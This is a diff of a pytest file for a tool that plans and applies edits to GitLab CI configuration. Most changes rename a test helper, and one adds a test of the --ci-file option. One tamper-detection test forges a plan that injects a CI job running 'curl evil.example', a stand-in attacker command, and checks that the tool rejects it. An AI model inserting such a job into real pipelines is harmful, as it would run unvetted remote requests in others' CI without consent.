@@ -11,7 +11,7 @@ from typing import Any
 import jsonschema
 import pytest
 
-from conftest import CASES, run, tree
+from conftest import CASES, run_here, tree
 
 ROOT = Path(__file__).parent.parent
 NAME = ".gitlab-ci.yml"
@@ -37,7 +37,7 @@ def work(tmp_path: Path) -> Path:
 
 def planned(folder: Path) -> Path:
     plan = folder.parent / "plan.json"
-    assert run("diff", "--plan", str(plan), cwd=folder).code == 1
+    assert run_here("diff", "--plan", str(plan), cwd=folder).code == 1
     return plan
 
 
@@ -45,7 +45,7 @@ def applied(folder: Path) -> dict[str, bytes]:
     """Return what a plain apply makes of a copy."""
     copy = folder.parent / "copy"
     shutil.copytree(folder, copy)
-    assert run("apply", "-q", cwd=copy).code == 0
+    assert run_here("apply", "-q", cwd=copy).code == 0
     return tree(copy)
 
 
@@ -56,9 +56,9 @@ def test_a_plan_does_what_apply_does_elsewhere_and_the_undo_patch_gives_back_eve
     elsewhere = work.parent / "else" / "where"
     shutil.copytree(work, elsewhere)
     undo = work.parent / "undo.patch"
-    done = run("apply", "--plan", str(plan), "--undo", str(undo), cwd=elsewhere / "ci")
+    done = run_here("apply", "--plan", str(plan), "--undo", str(undo), cwd=elsewhere / "ci")
     assert (done.code, tree(elsewhere)) == (0, wanted)
-    again = run("apply", "--plan", str(plan), cwd=elsewhere)
+    again = run_here("apply", "--plan", str(plan), cwd=elsewhere)
     assert again.code == 1
     assert again.err.count("the plan's change is in it already") == 4
     subprocess.run(["git", "init", "-q", "."], cwd=elsewhere, check=True)
@@ -72,7 +72,7 @@ def test_a_file_that_moved_is_refused_with_what_belongs_to_it_and_the_others_are
     moved = (work / "ci" / "deploy.yml").read_bytes() + b"# touched\n"
     (work / "ci" / "deploy.yml").write_bytes(moved)
     root = (work / NAME).read_bytes()
-    done = run("apply", "--plan", str(plan), cwd=work)
+    done = run_here("apply", "--plan", str(plan), cwd=work)
     assert done.code == 1
     assert tree(work) == wanted | {"ci/deploy.yml": moved, NAME: root}
     assert "ci/deploy.yml: left as it is [moved]: the file has changed since the plan was made" in done.err
@@ -86,7 +86,7 @@ def test_a_file_that_is_gone_and_one_that_leads_out(work: Path) -> None:
     (work / "ci" / "one.yml").rename(outside)
     (work / "ci" / "one.yml").symlink_to(outside)
     (work / "ci" / "two.yml").unlink()
-    done = run("apply", "-q", "--plan", str(plan), cwd=work)
+    done = run_here("apply", "-q", "--plan", str(plan), cwd=work)
     assert done.code == 1
     assert "ci/one.yml: left as it is [moved]: `ci/one.yml` leads out of the repository" in done.err
     assert "ci/two.yml: left as it is [moved]: the file cannot be read (no such file or directory)" in done.err
@@ -98,17 +98,38 @@ def test_a_plan_over_several_repositories(work: Path) -> None:
         (work.parent / name).mkdir()
         (work.parent / name / NAME).write_bytes(BEFORE)
     plan = work.parent / "plan.json"
-    assert run("diff", "--plan", str(plan), "a", "b", cwd=work.parent).code == 1
-    assert run("apply", "-q", "--plan", str(plan), str(work.parent), cwd=work).code == 0
+    assert run_here("diff", "--plan", str(plan), "a", "b", cwd=work.parent).code == 1
+    assert run_here("apply", "-q", "--plan", str(plan), str(work.parent), cwd=work).code == 0
     assert [(work.parent / name / NAME).read_bytes() for name in ("a", "b")] == [AFTER, AFTER]
 
 
 def test_names_and_selections_are_those_of_the_plan(work: Path) -> None:
     plan = work.parent / "plan.json"
-    run("diff", "--plan", str(plan), "--template-name", ".kaniko", "--select", "build-*", cwd=work)
-    assert run("apply", "-q", "--plan", str(plan), cwd=work).code == 0
+    run_here("diff", "--plan", str(plan), "--template-name", ".kaniko", "--select", "build-*", cwd=work)
+    assert run_here("apply", "-q", "--plan", str(plan), cwd=work).code == 0
     assert b".kaniko:\n" in (work / "ci" / "one.yml").read_bytes()
     assert (work / NAME).read_bytes().endswith(SPLIT)
+
+
+def test_the_file_that_gitlab_starts_from_is_that_of_the_plan(work: Path) -> None:
+    """By itself `ci/deploy.yml` would be a pipeline, and the job that waits for `images` would be none of its own."""
+    (work / "ci" / "two.yml").unlink()
+    (work / NAME).rename(work / "root.yml")
+    plan = work.parent / "plan.json"
+    assert run_here("diff", "-q", "--plan", str(plan), "--ci-file", "root.yml", cwd=work).code == 1
+    document = json.loads(plan.read_text())
+    assert document["asked"]["ci_file"] == "root.yml"
+    assert [one["root"] for one in document["pipelines"]] == ["root.yml", "ci/one.yml"]
+    copy = work.parent / "copy"
+    shutil.copytree(work, copy)
+    assert run_here("apply", "-q", "--ci-file", "root.yml", cwd=copy).code == 0
+    assert run_here("apply", "-q", "--plan", str(plan), cwd=work).code == 0
+    assert tree(work) == tree(copy)
+    assert b"needs: [build-a, build-b]" in (work / "ci" / "deploy.yml").read_bytes()
+    (work / "root.yml").unlink()
+    again = run_here("apply", "-q", "--plan", str(plan), cwd=work)
+    assert again.code == 1
+    assert "root.yml: left as it is [moved]: the file cannot be read (no such file or directory)" in again.err
 
 
 def test_a_dockerfile_that_the_plan_rests_on(work: Path) -> None:
@@ -119,7 +140,7 @@ def test_a_dockerfile_that_the_plan_rests_on(work: Path) -> None:
     before = tree(work)
     (work / "b" / "Dockerfile").write_text("ARG R\nFROM $R/a\n")
     (work / NAME).write_bytes(before[NAME])
-    done = run("apply", "--plan", str(plan), cwd=work)
+    done = run_here("apply", "--plan", str(plan), cwd=work)
     assert (done.code, (work / NAME).read_bytes()) == (1, before[NAME])
     assert f"{NAME}: left as it is [moved]: read again, the repository no longer gives the change" in done.err
 
@@ -184,7 +205,7 @@ def test_a_plan_that_was_tampered_with_writes_nothing(change: str, work: Path) -
     (work.parent / "outside.yml").write_bytes(BEFORE)
     changed(plan, change)
     before = tree(work.parent)
-    done = run("apply", "--plan", str(plan), cwd=work)
+    done = run_here("apply", "--plan", str(plan), cwd=work)
     assert done.code == 2
     assert done.err.count("error: ") == 1
     assert TAMPERED[change] in done.err
@@ -202,7 +223,7 @@ def test_a_plan_with_a_change_of_its_own_is_not_believed(work: Path) -> None:
     evil = AFTER + b"evil:\n  script: [curl evil.example]\n"
     file["sha256_after"] = hashlib.sha256(evil).hexdigest()
     plan.write_text(json.dumps(document))
-    done = run("apply", "--plan", str(plan), cwd=work)
+    done = run_here("apply", "--plan", str(plan), cwd=work)
     assert done.code == 1
     assert (work / "ci" / "one.yml").read_bytes() == BEFORE
     assert "ci/one.yml: left as it is [moved]: read again" in done.err
@@ -225,7 +246,7 @@ def test_the_undo_patch_gives_back_every_byte(shape: str, tmp_path: Path) -> Non
     if shape in {"open", "all"}:
         before = before.removesuffix(b"\n").removesuffix(b"\r")
     (tmp_path / NAME).write_bytes(before)
-    assert run("apply", "-q", "--undo", "undo.patch", cwd=tmp_path).code == 0
+    assert run_here("apply", "-q", "--undo", "undo.patch", cwd=tmp_path).code == 0
     after = (tmp_path / NAME).read_bytes()
     assert after != before
     subprocess.run(["git", "init", "-q", "."], cwd=tmp_path, check=True)
@@ -236,10 +257,10 @@ def test_the_undo_patch_gives_back_every_byte(shape: str, tmp_path: Path) -> Non
 def test_an_undo_patch_is_never_lost(work: Path) -> None:
     before = tree(work)
     (work.parent / "undo.patch").write_text("older")
-    done = run("apply", "--undo", "../undo.patch", cwd=work)
+    done = run_here("apply", "--undo", "../undo.patch", cwd=work)
     assert (done.code, tree(work)) == (2, before)
     assert "../undo.patch: there is such a file already" in done.err
-    done = run("apply", "--undo", "no/such/folder/undo.patch", cwd=work)
+    done = run_here("apply", "--undo", "no/such/folder/undo.patch", cwd=work)
     assert (done.code, tree(work)) == (2, before)
     assert "no/such/folder/undo.patch: the file cannot be written (no such file or directory)" in done.err
 
@@ -247,7 +268,7 @@ def test_an_undo_patch_is_never_lost(work: Path) -> None:
 def test_an_undo_patch_speaks_of_what_was_written_only(work: Path) -> None:
     before = tree(work)
     (work / "ci" / "one.yml").chmod(0o444)
-    done = run("apply", "-q", "--undo", "../undo.patch", cwd=work)
+    done = run_here("apply", "-q", "--undo", "../undo.patch", cwd=work)
     assert done.code == 2
     assert "ci/one.yml" not in (work.parent / "undo.patch").read_text()
     subprocess.run(["git", "init", "-q", "."], cwd=work, check=True)
@@ -271,7 +292,7 @@ def test_an_undo_patch_speaks_of_what_was_written_only(work: Path) -> None:
 )
 def test_wrong_usage(arguments: tuple[str, ...], word: str, work: Path) -> None:
     before = tree(work)
-    done = run(*arguments, cwd=work)
+    done = run_here(*arguments, cwd=work)
     assert (done.code, tree(work)) == (2, before)
     assert word in done.err
     assert "Traceback" not in done.err
